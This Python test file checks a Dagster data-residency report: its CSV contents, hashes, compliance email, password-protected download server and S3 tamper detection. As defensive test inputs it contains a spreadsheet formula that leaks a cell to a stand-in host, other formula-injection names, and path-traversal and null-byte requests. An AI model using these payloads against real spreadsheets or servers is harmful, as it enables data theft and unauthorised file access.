"""residency_report: rows, files and hashes, the email, downloads and the sign-off checks."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import signal
import time
import urllib.error
import urllib.request
from datetime import date

import pytest
from dagster import DagsterInstance, materialize

from mm_orchestration.assets.residency import residency_report
from mm_orchestration.download_server import make_server, serve_in_background
from mm_orchestration.resources.report_store import ReportStore
from tests import factories as f

WEEK = "2026-11-16"


@pytest.fixture
def store(tmp_path):
    return ReportStore(root=str(tmp_path / "reports"))


@pytest.fixture
def agencies(conn):
    good = f.tenant(conn, name="Kangaroo Creative", region="ap-southeast-2")
    f.asset(conn, good, storage_region="ap-southeast-2")
    f.asset(conn, good, storage_region="ap-southeast-2")
    offshore_video = f.tenant(conn, name="Bondi Pictures", region="ap-southeast-2")
    f.asset(conn, offshore_video, storage_region="us-east-1")
    offshore_db = f.tenant(conn, name="Pacific Rim Media", region="us-west-2")
    return good, offshore_video, offshore_db


def run(portal_db, mailer, job_settings, store):
    with DagsterInstance.ephemeral() as instance:
        return materialize(
            [residency_report],
            partition_key=WEEK,
            instance=instance,
            raise_on_error=False,
            resources={
                "portal_db": portal_db,
                "mailer": mailer,
                "job_settings": job_settings,
                "report_store": store,
            },
        )


def test_report_rows_files_hash_email_and_checks(
    conn, portal_db, mailer, job_settings, store, sendgrid, agencies
):
    result = run(portal_db, mailer, job_settings, store)
    assert result.success
    week_start, key, sha, rows, compliant, emailed = conn.execute(
        "SELECT week_start, storage_uri, sha256, row_count, compliant, emailed_at"
        " FROM ops.residency_reports"
    ).fetchone()
    assert week_start == date(2026, 11, 16) and not compliant and emailed is not None
    content = store.get(key)
    assert hashlib.sha256(content).hexdigest() == sha
    table = list(csv.DictReader(io.StringIO(content.decode())))
    assert len(table) == rows
    by = {(r["tenant"], r["system"]): r for r in table}
    assert by[("Kangaroo Creative", "portal database")]["status"] == "ok"
    assert (
        by[("Kangaroo Creative", "video storage")]["evidence"]
        == "portal.media_assets.storage_region (2 videos)"
    )
    assert by[("Bondi Pictures", "video storage")]["status"] == "exception"
    assert by[("Bondi Pictures", "video storage")]["country"] == "US"
    assert by[("Pacific Rim Media", "portal database")]["status"] == "exception"
    assert by[("Pacific Rim Media", "portal database")]["onshore"] == "False"
    assert by[("Kangaroo Creative", "email delivery")]["vendor"] == "Twilio SendGrid"
    assert {r["system"] for r in table} == {
        "portal database",
        "video storage",
        "email delivery",
        "error monitoring",
        "backups",
    }
    checks = {c.check_name: c for c in result.get_asset_check_evaluations()}
    exceptions = checks["no_residency_exceptions"]
    assert not exceptions.passed and exceptions.severity.value == "ERROR"
    assert "Bondi Pictures" in exceptions.description
    assert "Pacific Rim Media" in exceptions.description
    assert not checks["restore_drill_within_35_days"].passed  # no drill recorded yet
    (mat,) = result.asset_materializations_for_node("ops__residency_report")
    assert mat.metadata["download_csv"].value.endswith(f"/reports/{key}")
    assert (
        "| Bondi Pictures | video storage | us-east-1 |" in mat.metadata["exceptions_preview"].value
    )

    # The email: once, to compliance, with both files (as first generated: a rerun of the
    # week regenerates the report but never emails it again).
    assert run(portal_db, mailer, job_settings, store).success
    (request,) = sendgrid.mail_requests
    assert request.body["personalizations"][0]["to"] == [
        {"email": "compliance@motionmavericks.com.au"}
    ]
    names = sorted(a["filename"] for a in request.body["attachments"])
    assert names == ["residency-2026-11-16.csv", "residency-2026-11-16.html"]
    attached = next(a for a in request.body["attachments"] if a["filename"].endswith(".csv"))
    assert hashlib.sha256(base64.b64decode(attached["content"])).hexdigest() == sha


def test_drill_check_passes_with_a_recent_successful_drill(
    conn, portal_db, mailer, job_settings, store
):
    conn.execute(
        "INSERT INTO ops.backup_drills (started_at, finished_at, status, method) "
        "VALUES (now() - interval '10 days', now() - interval '10 days', 'succeeded',"
        " 'local')"
    )
    t = f.tenant(conn)
    f.asset(conn, t, storage_region="ap-southeast-2")
    result = run(portal_db, mailer, job_settings, store)
    checks = {c.check_name: c.passed for c in result.get_asset_check_evaluations()}
    assert checks == {"no_residency_exceptions": True, "restore_drill_within_35_days": True}
    conn.execute("UPDATE ops.backup_drills SET finished_at = now() - interval '36 days'")
    result = run(portal_db, mailer, job_settings, store)
    checks = {c.check_name: c.passed for c in result.get_asset_check_evaluations()}
    assert checks["restore_drill_within_35_days"] is False


def test_download_endpoint(
    conn, database_url, portal_db, mailer, job_settings, store, agencies, tmp_path
):
    assert run(portal_db, mailer, job_settings, store).success
    key = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
    (tmp_path / "secret.txt").write_text("not a report")
    server = make_server(store, database_url, "s3cret", port=0)
    serve_in_background(server)
    base = f"http://127.0.0.1:{server.server_address[1]}"

    def get(path, password="s3cret"):
        request = urllib.request.Request(base + path)
        if password is not None:
            token = base64.b64encode(f"compliance:{password}".encode()).decode()
            request.add_header("Authorization", f"Basic {token}")
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                return response.status, response.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    try:
        status, body = get(f"/reports/{key}")
        assert status == 200 and body == store.get(key)
        assert get(f"/reports/{key}", password="wrong")[0] == 401
        assert get(f"/reports/{key}", password=None)[0] == 401
        assert get("/reports/../secret.txt")[0] in (403, 404)
        assert get("/reports/%2E%2E/secret.txt")[0] == 403
        # Whatever the path holds, an answer (a request without one hung the client before).
        for hostile in ("/reports/residency/%00x.csv", "/reports/%FF%FE", "/reports/a%0Ab"):
            status, body = get(hostile)
            assert status == 400, (hostile, status, body)
        store.path(key).write_bytes(store.get(key) + b"tampered")
        status, body = get(f"/reports/{key}")
        assert status == 409 and b"SHA-256" in body
    finally:
        server.shutdown()
        server.server_close()


def test_serve_reports_command_serves_the_store_of_the_settings(
    conn, database_url, portal_db, mailer, job_settings, store, agencies, tmp_path
):
    """`mm-jobs serve-reports` (production's download endpoint) reads MM_DATA_DIR's store,
    insists on a password, and stops cleanly on SIGTERM (systemd's stop)."""
    from mm_orchestration.embedded_pg import free_port
    from tests.local_stack import own_env, start

    assert run(portal_db, mailer, job_settings, store).success
    key = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
    port = free_port()
    env = own_env(tmp_path, DATABASE_URL=database_url)  # the store is tmp_path/reports
    refused = start(["serve-reports", "--port", str(port)], env, tmp_path / "refused.log")
    assert refused.wait(timeout=60) == 2
    assert "MM_REPORTS_PASSWORD is not set" in (tmp_path / "refused.log").read_text()

    env["MM_REPORTS_PASSWORD"] = "s3cret"
    proc = start(["serve-reports", "--port", str(port)], env, tmp_path / "serve.log")
    try:
        request = urllib.request.Request(f"http://127.0.0.1:{port}/reports/{key}")
        token = base64.b64encode(b"compliance:s3cret").decode()
        request.add_header("Authorization", f"Basic {token}")
        for _ in range(100):
            try:
                with urllib.request.urlopen(request, timeout=5) as response:
                    assert response.read() == store.get(key)
                break
            except urllib.error.URLError as exc:
                assert not isinstance(exc, urllib.error.HTTPError), exc
                assert proc.poll() is None, (tmp_path / "serve.log").read_text()
                time.sleep(0.2)
        else:
            raise AssertionError("serve-reports did not answer")
    finally:
        proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=30) == 0


def test_s3_compatible_store_round_trip_and_tamper_check(monkeypatch):
    import boto3
    from moto.server import ThreadedMotoServer

    from mm_orchestration.embedded_pg import free_port
    from mm_orchestration.resources.report_store import ReportStoreError

    port = free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port)
    server.start()
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "test")
    try:
        endpoint = f"http://127.0.0.1:{port}"
        s3 = boto3.client("s3", region_name="ap-southeast-2", endpoint_url=endpoint)
        s3.create_bucket(
            Bucket="mm-reports", CreateBucketConfiguration={"LocationConstraint": "ap-southeast-2"}
        )
        store = ReportStore(s3_bucket="mm-reports", s3_endpoint_url=endpoint)
        digest = store.put("residency/2026-11-16/r.csv", b"a,b\n1,2\n")
        assert store.get("residency/2026-11-16/r.csv", digest) == b"a,b\n1,2\n"
        assert (
            store.uri("residency/2026-11-16/r.csv")
            == "s3://mm-reports/reports/residency/2026-11-16/r.csv"
        )
        s3.put_object(Bucket="mm-reports", Key="reports/residency/2026-11-16/r.csv", Body=b"x")
        with pytest.raises(ReportStoreError, match="SHA-256"):
            store.get("residency/2026-11-16/r.csv", digest)
        with pytest.raises(ReportStoreError, match="outside"):
            store.check_key("../other/secret.csv")
    finally:
        server.stop()


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    conn, portal_db, mailer, job_settings, store
):
    """Tenant names a spreadsheet would evaluate as formulas (CWE-1236) arrive as text."""
    import csv
    import io

    hostile = [
        '=HYPERLINK("http://x.example/?d="&B2,"details")',
        "@SUM(1+9)",
        "+61 studio",
        "-minus",
        "\tTabbed",
    ]
    for name in hostile:
        tenant = f.tenant(conn, name=name, region="ap-southeast-2")
        f.asset(conn, tenant, storage_region="ap-southeast-2")
    assert run(portal_db, mailer, job_settings, store).success
    key = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
    rows = list(csv.DictReader(io.StringIO(store.get(key).decode())))
    names = {row["tenant"] for row in rows}
    for name in hostile:
        assert "'" + name in names, (name, names)
    every_cell = [cell for row in rows for cell in row.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "@", "\t", "\r")]
